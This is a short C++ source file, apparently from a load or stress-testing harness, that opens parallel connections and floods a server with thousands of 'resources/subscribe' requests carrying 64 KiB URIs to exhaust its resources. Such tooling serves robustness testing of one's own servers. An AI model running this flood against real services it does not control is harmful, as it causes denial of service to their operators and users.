// Subscriptions to resources with URIs of 64 KiB, as many as time allows.
#include "attack/clients.hpp"

namespace attack {

void long_subscriptions(Field& field) {
    field.in_parallel([&](int) {
        Wire wire = field.connect();
        const std::string session = field.begin(wire), tail(65'000, 'u');
        for (int i = 0; i < 10'000 && !session.empty() && !field.is_over(); ++i) {
            const std::string uri = "note://" + std::to_string(i) + "/" + tail;
            const Answer answer = wire.ask(
                field.post_in(session, message("resources/subscribe", "\"uri\":\"" + uri + "\"")), field.until);
            if (answer.status != 200) break;
            field.count();
        }
        field.keep(std::move(wire));
    });
}

}  // namespace attack
